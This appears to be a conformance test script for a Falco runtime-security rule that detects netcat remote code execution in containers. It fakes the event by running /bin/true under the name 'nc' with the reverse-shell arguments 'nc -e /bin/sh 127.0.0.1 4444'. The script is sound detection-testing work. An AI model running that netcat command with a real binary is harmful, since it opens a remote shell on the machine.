#!/bin/bash
# Live scenario: nc started with -e (a stand-in: /bin/true named nc; only the execve and its argv matter).
# Run by conformance/run (suite live) with FALCO_TRIGGER=netcat_remote_code_execution_in_container, W=<an empty scratch dir, the cwd>
# and PY=<python3>; see conformance/README.md.
#@ rule: Netcat Remote Code Execution in Container
#@ priority: Warning
#@ output: Netcat runs inside container that allows remote code execution | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags
#@ expect: proc.name=nc
#@ expect: proc.cmdline=nc -e /bin/sh 127.0.0.1 4444
#@ expect: evt.type=execve
#@ expect: proc.pname=bash
#@ expect: user.name=root
#@ expect: user.uid=0
#@ expect: proc.tty=0
#@ reference: nc_exec
set -u
ln -s /bin/true "$W/nc"
"$W/nc" -e /bin/sh 127.0.0.1 4444
